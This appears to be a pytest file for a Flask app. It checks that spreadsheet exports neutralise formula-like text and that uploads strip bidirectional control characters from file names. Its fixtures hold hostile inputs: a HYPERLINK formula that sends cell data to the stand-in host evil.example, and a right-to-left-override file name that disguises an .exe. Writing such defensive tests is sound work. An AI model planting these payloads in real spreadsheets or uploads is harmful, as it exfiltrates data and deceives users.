"""Hostile content: spreadsheet formulas in exports, bidirectional controls in uploaded file names."""
from __future__ import annotations

import io
from io import BytesIO
from typing import Any

from flask import Flask
from openpyxl import load_workbook

from app.extensions import db
from app.models import Center
from tests.web.conftest import logged_in, ready_task_id, set_clock, start_annual_report

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A2)"]


def test_exported_text_that_starts_a_formula_is_text(app: Flask, staff: dict[str, Any]) -> None:
    set_clock(app, "2026-12-01T09:00:00+08:00")
    ids = []
    for name, key in zip(FORMULAS, ("a", "b"), strict=False):
        with app.app_context():
            center = db.session.get(Center, staff["centers"][key])
            assert center is not None
            center.name = name
            db.session.commit()
        ids.append(start_annual_report(app, staff, key))
    response = logged_in(app, staff["supervisor"]).get("/monitor/instances?format=xlsx")
    assert response.status_code == 200 and response.mimetype == XLSX
    sheet = load_workbook(BytesIO(response.data)).active
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value in FORMULAS}
    assert set(cells) == set(FORMULAS[:2]), [c.value for row in sheet.iter_rows() for c in row]
    for cell in cells.values():
        assert cell.data_type == "s", (cell.value, cell.data_type)  # never "f" (a live formula)
        assert cell.quotePrefix


def test_bidirectional_controls_are_cleaned_from_file_names(app: Flask, staff: dict[str, Any]) -> None:
    set_clock(app, "2026-12-01T09:00:00+08:00")
    start_annual_report(app, staff)
    task_id = ready_task_id(app, "submit_report", staff["centers"]["a"])
    response = app.test_client().post(
        f"/api/v1/tasks/{task_id}/files", headers={"Authorization": f"Bearer {staff['applicant'].token}"},
        data={"file": (io.BytesIO(b"MZ"), "report\u202egpj.exe")}, content_type="multipart/form-data")
    assert response.status_code == 201, response.get_json()
    assert response.get_json()["name"] == "reportgpj.exe"
    for mark in ("\u200f", "\u2066", "\u202a", "\ufeff"):
        again = app.test_client().post(
            f"/api/v1/tasks/{task_id}/files", headers={"Authorization": f"Bearer {staff['applicant'].token}"},
            data={"file": (io.BytesIO(b"x"), f"a{mark}b.pdf")}, content_type="multipart/form-data")
        assert again.get_json()["name"] == "ab.pdf"
